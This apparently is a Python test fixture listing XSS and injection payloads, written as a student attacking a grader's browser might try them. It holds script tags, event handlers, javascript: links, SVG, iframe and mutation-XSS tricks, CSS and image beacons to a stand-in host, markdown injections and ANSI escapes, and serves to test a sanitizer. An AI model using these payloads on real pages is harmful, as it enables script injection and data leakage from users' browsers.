"""What a student might try on the browser of whoever grades: each names itself when it acts.

A payload that runs sets `top.ran_name`; one that fetches asks for `http://beacon.test/name`.
"""

from __future__ import annotations

import base64

MARK = "ran_"
BEACON = "http://beacon.test"


def ran(name: str) -> str:
    return f"top.{MARK}{name.replace('-', '_')}=1"


def _doc(name: str) -> str:
    page = f"<script>new Image().src='{BEACON}/{name}'</script>"
    return "data:text/html;base64," + base64.b64encode(page.encode()).decode()


def _svg(name: str) -> str:
    picture = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{ran(name)}</script></svg>'
    return "data:image/svg+xml;base64," + base64.b64encode(picture.encode()).decode()


HTML: dict[str, str] = {
    "script": f"<script>{ran('script')}</script>",
    "script-case": f"<ScRiPt\n>{ran('script-case')}</sCrIpT\t>",
    "script-src": f"<script src={BEACON}/script-src></script>",
    "script-nested": f"<scr<script>ipt>{ran('script-nested')}</scr</script>ipt>",
    "script-module": f'<script type="module">{ran("script-module")}</script>',
    "mathjax-config": f'<script type="text/x-mathjax-config">{ran("mathjax-config")}</script>',
    "img-onerror": f'<img src=x: onerror="{ran("img-onerror")}">',
    "img-onerror-slash": f'<img/src="x:"/onerror="{ran("img-onerror-slash")}"/>',
    "img-unclosed": f'<img src=x: onerror="{ran("img-unclosed")}" ',
    "img-entities": '<img src=x: onerror="&#116;op.ran_img_entities=1">',
    "img-beacon": f"<img src={BEACON}/img-beacon>",
    "img-srcset": f'<img srcset="{BEACON}/img-srcset 1x">',
    "img-no-scheme": '<img src="//beacon.test/img-no-scheme">',
    "svg-onload": f'<svg onload="{ran("svg-onload")}"></svg>',
    "svg-script": f"<svg><script>{ran('svg-script')}</script></svg>",
    "svg-animate": f'<svg><animate onbegin="{ran("svg-animate")}" attributeName=x dur=1s></svg>',
    "svg-image": f'<svg><image href="{BEACON}/svg-image"/></svg>',
    "svg-use": f'<svg><use href="{_svg("svg-use")}#x"/></svg>',
    "iframe-srcdoc": f'<iframe srcdoc="<script>{ran("iframe-srcdoc")}</script>"></iframe>',
    "iframe-src": f"<iframe src={BEACON}/iframe-src></iframe>",
    "iframe-data": f'<iframe src="{_doc("iframe-data")}"></iframe>',
    "iframe-javascript": f'<iframe src="javascript:{ran("iframe-javascript")}"></iframe>',
    "object": f'<object data="{BEACON}/object"></object>',
    "embed": f'<embed src="{BEACON}/embed">',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url={BEACON}/meta-refresh">',
    "base": f'<base href="{BEACON}/base/"><img src="relative">',
    "link-stylesheet": f'<link rel="stylesheet" href="{BEACON}/link-stylesheet">',
    "style-import": f"<style>@import url({BEACON}/style-import);</style>",
    "style-exfiltrate": f"<style>body{{background:url({BEACON}/style-exfiltrate)}}</style>",
    "style-attribute": f'<div style="background-image:url({BEACON}/style-attribute)">x</div>',
    "style-shorthand": f'<b style="border:1px;list-style:url({BEACON}/style-shorthand)">x</b>',
    "style-escape": f'<b style="b\\61 ckground:url({BEACON}/style-escape)">x</b>',
    "table-background": f'<table background="{BEACON}/table-background"><tr><td>x</table>',
    "audio": f'<audio src="{BEACON}/audio" autoplay onerror="{ran("audio")}"></audio>',
    "video-poster": f'<video poster="{BEACON}/video-poster"></video>',
    "input-image": f'<input type="image" src="{BEACON}/input-image">',
    "input-focus": f'<input autofocus onfocus="{ran("input-focus")}">',
    "form-button": f'<form action="javascript:{ran("form-button")}"><button>Save</button></form>',
    "details-toggle": f'<details open ontoggle="{ran("details-toggle")}">x</details>',
    "mouseover": f'<p onmouseover="{ran("mouseover")}">move here</p>',
    "a-javascript": f'<a href="javascript:{ran("a-javascript")}">a</a>',
    "a-javascript-tab": f'<a href=" java&#x09;script:{ran("a-javascript-tab")}">a</a>',
    "a-javascript-entity": f'<a href="&#106;avascript&colon;{ran("a-javascript-entity")}">a</a>',
    "math-href": f'<math><a xlink:href="javascript:{ran("math-href")}">x</a></math>',
    "mutation": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: '
        f"onerror={ran('mutation')}&gt;\">"
    ),
    "noscript": f'<noscript><p title="</noscript><img src=x: onerror={ran("noscript")}>">',
    "mutation-title": f'<b title="</b><img src=x: onerror={ran("mutation-title")}>">x</b>',
    "comment": f"<!--><img src=x: onerror={ran('comment')}>-->",
    "cdata": f"<![CDATA[><img src=x: onerror={ran('cdata')}>]]>",
    "template": f"</textarea></title></style></pre><img src=x: onerror={ran('template')}>",
    "giant-attribute": f'<p title="{"a" * 70_000}" onclick="{ran("giant-attribute")}">x</p>',
    "many-attributes": f"<p {'a=1 ' * 3_000} onclick={ran('many-attributes')}>x</p>",
    "deep": "<div>" * 3_000 + f"<img src=x: onerror={ran('deep')}>",
    "null": f"<img src=x: \0onerror={ran('null')}><scr\0ipt>{ran('null')}</script>",
    "alert": "<img src=x: onerror=alert(1)>",
}  # fmt: skip

MARKDOWN: dict[str, str] = {
    "md-image": f"![a]({BEACON}/md-image)",
    "md-image-reference": f"![a][there]\n\n[there]: {BEACON}/md-image-reference",
    "md-image-in-link": f"[![a]({BEACON}/md-image-in-link)](http://example.org)",
    "md-link-javascript": f"[a](javascript:{ran('md-link-javascript')})",
    "md-link-entity": f"[a](&#106;avascript:{ran('md-link-entity')})",
    "md-link-case": f"[a](<JaVaScRiPt:{ran('md-link-case')}>)",
    "md-link-data": f"[a]({_doc('md-link-data')})",
    "md-reference": f"[a]\n\n[a]: javascript:{ran('md-reference')}",
    "md-autolink": f"<javascript:{ran('md-autolink')}>",
    "md-title": f'[a](http://example.org "<img src=x: onerror={ran("md-title")}>")',
    "md-mermaid": f"```mermaid\n</pre><img src=x: onerror={ran('md-mermaid')}>\n```",
    "md-fence": f'```"><img src=x: onerror={ran("md-fence")}>\nx\n```',
    "md-math": f"$<img src=x: onerror={ran('md-math')}>$",
    "md-math-href": f"$$\\href{{javascript:{ran('md-math-href')}}}{{x}}$$",
    "md-heading": f"# <img src=x: onerror={ran('md-heading')}>",
    "md-table": f"a|b\n-|-\n<img src=x: onerror={ran('md-table')}>|c",
    "md-missing-attachment": "![a](attachment:none.png)",
    "md-code-then-html": f"`<b>` <b onclick={ran('md-code-then-html')}>x</b>",
}

TEXT: dict[str, str] = {
    "ansi-link": f"\x1b]8;;javascript:{ran('ansi-link')}\x07press\x1b]8;;\x07",
    "ansi-title": "\x1b]0;title\x07\x1b[2J\x1b[?1049h",
    "ansi-html": f"\x1b[31m<img src=x: onerror={ran('ansi-html')}>\x1b[0m",
    "ansi-broken": f"\x1b[3<img src=x: onerror={ran('ansi-broken')}>1m",
    "bidi": "\u202eevil\u202c \u2066x\u2069",
    "null-text": "a\0b\x08\x85",
}
